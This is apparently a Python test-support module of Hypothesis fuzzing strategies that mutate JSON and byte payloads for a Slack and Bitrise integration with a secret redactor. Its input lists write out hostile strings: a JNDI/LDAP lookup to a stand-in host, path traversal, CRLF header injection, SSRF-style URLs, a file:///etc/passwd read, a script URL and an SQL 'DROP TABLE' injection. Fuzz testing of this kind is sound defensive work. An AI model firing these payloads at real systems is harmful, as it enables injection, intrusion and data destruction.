"""Hypothesis strategies that mutate JSON values, or the bytes that carry them.

They know nothing about Slack or Bitrise except typical attacks.
"""

from __future__ import annotations

import copy
import json
from collections.abc import Callable, Iterator, Sequence
from typing import Any

from hypothesis import strategies as st

from domain.redaction.redactor import redact
from tests.support.canary_secrets import CANARIES, LINES, leaked_kinds

# Names that do not exist, so anything that contains them came from outside.
EVIL_PERSON, EVIL_GROUP, EVIL_CHANNEL, EVIL_HOST = "U0EVIL", "S0EVIL", "C0EVIL", "evil.example"
# Mentions and Slack markup, plain and partly escaped.
MARKUP = (
    "<!channel>",
    "<!here|here>",
    "<!everyone>",
    f"<@{EVIL_PERSON}>",
    f"<@{EVIL_PERSON}|anna>",
    f"<!subteam^{EVIL_GROUP}|@release-team>",
    f"<#{EVIL_CHANNEL}|general>",
    f"<https://{EVIL_HOST}|Approve>",
    f"<mailto:x@{EVIL_HOST}|x>",
    "&lt;!here&gt;",
    "&amp;lt;!channel&amp;gt;",
    "<!date^0^{date}|<!channel>>",
    "`<!channel>`",
    "```\n<!channel>\n```",
    "<" * 200,
    "&" * 200,
)
NASTY = (
    *MARKUP,
    "",
    " ",
    "\x00",
    "\x1b[31mred\x1b[0m",
    "\u202egnp.exe\u202c",
    "a\u200bb\u2066c\u2069\ufeff",
    "e" + "\u0301" * 300,
    "\ud800",  # a lone surrogate, which JSON may contain
    "x\udfffy",
    "%s%n%d",
    "{0.__class__.__mro__}{secret}",
    "${jndi:ldap://" + EVIL_HOST + "/x}",
    "../..",
    "..%2f..%2fme",
    "../../me?x=#",
    "/v0.1/me",
    "\\..\\..",
    ".",
    "a/b",
    "a\r\nHost: " + EVIL_HOST,
    f"https://{EVIL_HOST}/x",
    f"http://127.0.0.1:1@{EVIL_HOST}/",
    f"http://{EVIL_HOST}\\@127.0.0.1/",
    "http://[::1",
    "http://127.0.0.1:99999/",
    "javascript:alert(1)",
    "file:///etc/passwd",
    "'; DROP TABLE builds; --",
    "*" * 50,
    "NULL",
    "NaN",
    "true",
    "-1",
    "0",
    "#1",
    "@me",
    "٣",  # a digit in Unicode and for str.isdigit
    "²",
    '"',
    "«»",
    "x" * 80,
    "x" * 3001,
    "long words " * 4000,
    "\n" * 500,
)
# Each secret on a line with its name; alone only those that the redactor recognises by their shape.
SECRETS = (
    *(LINES[kind].format(secret) for kind, secret in CANARIES.items()),
    *(secret for secret in CANARIES.values() if not leaked_kinds(redact(secret))),
)
NUMBERS = (0, 1, -1, 2**31, -(2**31) - 1, 2**63, -(2**63), 2**64, 10**30, 0.5, -0.0, 1e308, -1e308, 1e-300)
INVALID_JSON = (
    b"",
    b" ",
    b"null",
    b"[]",
    b'"text"',
    b"{",
    b"{}",
    b"nonsense",
    b"<html><h1>Bad Gateway</h1></html>",
    b"[" * 50_000,
    b'{"data":' * 20_000,
    b"\xff\xfe\x00",
    b"\xef\xbb\xbf{}",
    '{"data": "ü"}'.encode("latin-1"),
    '{"data": []}'.encode("utf-16"),
    b"\x1f\x8b\x08\x00",
    b"9" * 5000,
    b"NaN",
)

Path = tuple[str | int, ...]


def nested(depth: int, inside: object) -> Any:
    """Return a value nested in lists and objects."""
    for level in range(depth):
        inside = [inside] if level % 2 else {"data": inside}
    return inside


def texts() -> st.SearchStrategy[str]:
    """Return unexpected texts: hostile, secret or arbitrary."""
    return st.one_of(st.sampled_from(NASTY), st.sampled_from(SECRETS), st.text(max_size=30))


def values() -> st.SearchStrategy[Any]:
    """Return values of any type."""
    return st.one_of(
        st.none(),
        st.booleans(),
        st.sampled_from(NUMBERS),
        st.integers(),
        st.floats(),
        texts(),
        st.sampled_from([[], {}, [[]], [None], {"": None}, [{}]]),
        st.builds(nested, st.sampled_from([3, 40, 400]), texts()),
    )


def mutated(
    value: Any, *, most: int = 4, prefer: Callable[[Path], bool] = lambda _: True
) -> st.SearchStrategy[Any]:
    """Return the value with one to `most` changes, mostly at the paths that `prefer` selects."""

    @st.composite
    def mutation(draw: st.DrawFn) -> Any:
        result = copy.deepcopy(value)
        for _ in range(draw(st.integers(1, most))):
            paths = list(_iterate_paths(result))
            candidates = [path for path in paths if prefer(path)]
            if not candidates or draw(st.integers(0, 2)) == 0:
                # Most paths are deep, but shallow ones are read first.
                deepest = draw(st.integers(0, max(map(len, paths))))
                candidates = [path for path in paths if len(path) == deepest]
            result = _change(result, draw(st.sampled_from(candidates)), draw)
        return result

    return mutation()


def rewritten(body: bytes) -> st.SearchStrategy[bytes]:
    """Return the bytes truncated, flipped, wrongly encoded, or replaced."""

    @st.composite
    def mutation(draw: st.DrawFn) -> bytes:
        match draw(st.sampled_from(["cut", "flip", "insert", "encode", "twice", "instead"])):
            case "cut":
                return body[: draw(st.integers(0, max(len(body) - 1, 0)))]
            case "flip" if body:
                flipped = bytearray(body)
                for _ in range(draw(st.integers(1, 8))):
                    flipped[draw(st.integers(0, len(body) - 1))] ^= draw(st.integers(1, 255))
                return bytes(flipped)
            case "insert":
                at = draw(st.integers(0, len(body)))
                return body[:at] + draw(st.binary(min_size=1, max_size=20)) + body[at:]
            case "encode":
                encoding = draw(st.sampled_from(["utf-16", "utf-32", "latin-1", "cp500"]))
                return body.decode("utf-8", "replace").encode(encoding, "replace")
            case "twice":
                return body + body
            case _:
                return draw(st.sampled_from(INVALID_JSON))

    return mutation()


def _change(value: Any, path: Path, draw: st.DrawFn) -> Any:
    """Change one place of the value; returns the changed or another value."""
    current = _get(value, path)
    mutations: list[Callable[[Any, st.DrawFn], Any]] = [_replace, _replace_with_none]
    if isinstance(current, str):
        # Values of the right type get further than others.
        mutations += [_replace_text, _replace_text, _extend_text, _extend_text]
        if _parse_json(current) is not None:
            mutations += [_mutate_json] * 6
    if isinstance(current, dict | list):
        mutations += [_remove_item, _duplicate_item, _add_item, _change_container]
    return _put(value, path, draw(st.sampled_from(mutations))(current, draw))


def _replace(_current: Any, draw: st.DrawFn) -> Any:
    return draw(values())


def _replace_with_none(_current: Any, _draw: st.DrawFn) -> Any:
    return None


def _replace_text(_current: Any, draw: st.DrawFn) -> Any:
    return draw(texts())


def _extend_text(current: str, draw: st.DrawFn) -> str:
    """Return the text with a prefix or suffix, so that it still looks similar."""
    addition = draw(texts())
    # A secret that is attached to other letters is not found by its prefix.
    separated = addition in SECRETS or bool(leaked_kinds(current))
    separator = draw(st.sampled_from([" ", "\n", "\t"] if separated else [" ", "\n", "", ",", ":"]))
    return draw(st.sampled_from([current + separator + addition, addition + separator + current]))


def _mutate_json(current: str, draw: st.DrawFn) -> str:
    """Mutate the JSON that a text contains."""
    inner = _parse_json(current)
    return json.dumps(_change(inner, draw(st.sampled_from(list(_iterate_paths(inner)))), draw))


def _remove_item(current: Any, draw: st.DrawFn) -> Any:
    if current and isinstance(current, dict):
        del current[draw(st.sampled_from(sorted(current)))]
    elif current:
        del current[draw(st.integers(0, len(current) - 1))]
    return current


def _duplicate_item(current: Any, draw: st.DrawFn) -> Any:
    """Duplicate one item of the value."""
    if current and isinstance(current, dict):
        name = draw(st.sampled_from(sorted(current)))
        current[draw(st.sampled_from(sorted(current)))] = copy.deepcopy(current[name])
    elif current:
        inner = draw(st.sampled_from(current))
        current.extend([copy.deepcopy(inner)] * draw(st.sampled_from([1, 2, 60])))
    return current


def _add_item(current: Any, draw: st.DrawFn) -> Any:
    if isinstance(current, dict):
        current[draw(texts())] = draw(values())
    else:
        current.insert(draw(st.integers(0, len(current))), draw(values()))
    return current


def _change_container(current: Any, _draw: st.DrawFn) -> Any:
    """Return the items in the wrong kind of container."""
    return (
        list(current.values())
        if isinstance(current, dict)
        else {str(at): item for at, item in enumerate(current)}
    )


def differences(before: Any, after: Any, path: Path = ()) -> Iterator[str]:
    """Return the differences of two values, one per line, to show on failure."""
    both = type(before) is type(after)
    if both and isinstance(before, dict):
        for name in {**before, **after}:
            yield from differences(before.get(name, "(nothing)"), after.get(name, "(nothing)"), (*path, name))
    elif both and isinstance(before, list) and len(before) == len(after):
        for at, (item, other) in enumerate(zip(before, after, strict=True)):
            yield from differences(item, other, (*path, at))
    elif not both or before != after:
        yield f"{'.'.join(map(str, path))}: {ascii(before)[:200]} is now {ascii(after)[:300]}"


def _iterate_paths(value: Any, path: Path = ()) -> Iterator[Path]:
    yield path
    inner: Sequence[tuple[str | int, Any]] = ()
    if isinstance(value, dict):
        inner = list(value.items())
    elif isinstance(value, list):
        inner = list(enumerate(value))
    if len(path) < 12:
        for name, item in inner:
            yield from _iterate_paths(item, (*path, name))


def _get(value: Any, path: Path) -> Any:
    for name in path:
        value = value[name]
    return value


def _put(value: Any, path: Path, new: Any) -> Any:
    if not path:
        return new
    _get(value, path[:-1])[path[-1]] = new
    return value


def _parse_json(text: str) -> Any:
    """Return the parsed JSON of a text; None if it has none."""
    if text[:1] not in ("{", "["):
        return None
    try:
        return json.loads(text)
    except ValueError:
        return None
